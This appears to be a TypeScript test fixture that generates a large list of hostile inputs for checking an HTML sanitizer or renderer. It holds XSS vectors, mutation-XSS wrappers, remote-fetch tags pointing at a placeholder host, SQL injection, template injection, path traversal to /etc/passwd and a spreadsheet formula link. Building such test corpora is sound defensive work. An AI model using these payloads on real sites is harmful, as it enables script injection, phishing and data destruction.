/** What a script calls when a hostile text has made it run; the page counts the calls. */
const HIT = 'ramt()';
/** A place that is not ours; `.example` belongs to nobody (RFC 2606). */
const AWAY = 'https://ond.example';

/** Ways to run a script or to fetch from elsewhere, as HTML. */
const VECTORS: readonly string[] = [
  `<script>${HIT}</script>`,
  `<script src="${AWAY}/x.js"></script>`,
  `<img src=x onerror=${HIT}>`,
  `<img src="${AWAY}/pixel.gif">`,
  `<img srcset="${AWAY}/pixel.gif 1x">`,
  `<svg onload=${HIT}></svg>`,
  `<svg><script>${HIT}</script></svg>`,
  `<svg><animate onbegin=${HIT} attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${HIT}"><text x=10 y=20>klik</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${HIT}>#x"></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${HIT}</script>"></iframe></foreignObject></svg>`,
  `<math><maction actiontype="statusline#x" xlink:href="javascript:${HIT}">klik</maction></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${HIT}></style></mglyph></table></mtext></math>`,
  `<body onload=${HIT}>`,
  `<iframe src="javascript:parent.${HIT}"></iframe>`,
  `<iframe srcdoc="<script>parent.${HIT}</script>"></iframe>`,
  `<iframe src="${AWAY}"></iframe>`,
  `<object data="data:text/html,<script>parent.${HIT}</script>"></object>`,
  `<embed src="${AWAY}/x.swf">`,
  `<link rel=stylesheet href="${AWAY}/x.css">`,
  `<style>@import url("${AWAY}/x.css");*{display:none}</style>`,
  `<style>main{background:url(${AWAY}/pixel.gif)}</style>`,
  `<div style="position:fixed;inset:0;z-index:9999;background:url(${AWAY}/pixel.gif)">dækker</div>`,
  `<p style="width:9999px;margin-left:-500px">bredt</p>`,
  `<base href="${AWAY}/">`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<form action="${AWAY}"><input name=kode autofocus onfocus=${HIT}><button>Log ind</button></form>`,
  `<input autofocus onfocus=${HIT}>`,
  `<details open ontoggle=${HIT}><summary>x</summary></details>`,
  `<video src=x onerror=${HIT}></video>`,
  `<audio src="${AWAY}/x.mp3" autoplay></audio>`,
  `<video poster="${AWAY}/pixel.gif"></video>`,
  `<marquee onstart=${HIT}>x</marquee>`,
  `<p onanimationstart=${HIT} style="animation:x 1s">x</p>`,
  `<p onpointerenter=${HIT} onmouseover=${HIT}>peg</p>`,
  `<a href="javascript:${HIT}">klik</a>`,
  `<a href="java\tscript:${HIT}">klik</a>`,
  `<a href="&#106;avascript:${HIT}">klik</a>`,
  `<a href="data:text/html,<script>${HIT}</script>">klik</a>`,
  `<a href="vbscript:${HIT}">klik</a>`,
  `<a href="//ond.example/log-ind">klik</a>`,
  `<a href="/\\ond.example/log-ind">klik</a>`,
  `<a href="https://kommune.sharepoint.com@ond.example/log-ind">klik</a>`,
  `<a href="blob:${AWAY}/x">klik</a>`,
  `<a href="#" ping="${AWAY}/ping" target="_blank">klik</a>`,
  `<a id=localTenant name=vp class=vp href="#">klik</a>`,
  `<table background="${AWAY}/pixel.gif"><tr><td colspan=9999>x</td></tr></table>`,
  `<template><script>${HIT}</script></template>`,
  `<dialog open>over det hele</dialog><div popover=auto>x</div>`,
  `<slot name=x onslotchange=${HIT}></slot><x-y onclick=${HIT} is=script></x-y>`,
];

type Wrap = (vector: string) => string;

/** What may confuse a reader of HTML around them. */
const WRAPS: readonly Wrap[] = [
  (vector) => vector,
  (vector) => `<div><table><tr><td>${vector}`,
  (vector) => `"'>--></title></textarea></style>${vector}`,
  (vector) => `<noscript><p title="</noscript>${vector}">`,
  (vector) => `<form><math><mtext></form><form><mglyph><style></math>${vector}`,
  (vector) => `<svg></p><style><a id="</style>${vector}">`,
  (vector) => vector.replace(/<(\w+)/g, (_, tag: string) => `<${tag.toUpperCase()}/`),
  (vector) => vector.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (vector) => `<p>${vector.slice(0, -3)}`,
  (vector) => `<![CDATA[${vector}]]><!--><${vector}-->`,
];

const nested = (tag: string, depth: number): string => `${`<${tag}>`.repeat(depth)}dybt${`</${tag}>`.repeat(depth)}`;

/** What no script needs: text that breaks lines, order and layout. */
const SHAPES: readonly string[] = [
  'Speciallægepraksiskonsulentordningsevaluering'.repeat(40),
  `<b>${'Å'.repeat(3000)}</b>`,
  `<table><tr>${'<td>Kolonne med et langt ord</td>'.repeat(60)}</tr></table>`,
  '\u202Egnilrednæv\u202C \u2066\u2067\u2068 isoleret \u2069',
  `${'\u202E'.repeat(50)}baglæns uden ende`,
  `e${'\u0301\u0335\u0489'.repeat(300)}`,
  '\u200B\u200C\u200D\uFEFF\u00AD'.repeat(200),
  '\u0000\u0001\u0007\u001B[31mrød\u001B[0m',
  '👩‍👩‍👧‍👦'.repeat(200),
  'مرحبا بالعالم '.repeat(20),
  nested('div', 800),
  nested('blockquote', 60),
  nested('ul><li', 60),
  nested('table><tr><td', 40),
  '<h2>'.repeat(50),
  `<ol start="99999999999999999">${'<li>x</li>'.repeat(50)}</ol>`,
  '<table><tr><td rowspan=65000 colspan=1000>x</td></tr></table>',
  '{{constructor.constructor("ramt()")()}} ${ramt()} #{ramt()} <%= ramt() %>',
  '__proto__',
  '../../../etc/passwd',
  "'; DROP TABLE Planer; --",
  '=HYPERLINK("https://ond.example","klik")',
  '\n'.repeat(2000),
  ' '.repeat(2000),
  '<p dir="rtl" lang="x"><bdo dir="rtl">omvendt</bdo></p>',
];

/** Every vector in every wrapping, and the shapes; each begins with its number, by which it is found again. */
export const HOSTILE_TEXTS: readonly string[] = [...VECTORS.flatMap((vector) => WRAPS.map((wrap) => wrap(vector))), ...SHAPES].map(
  (text, number) => `T${number}: ${text}`,
);
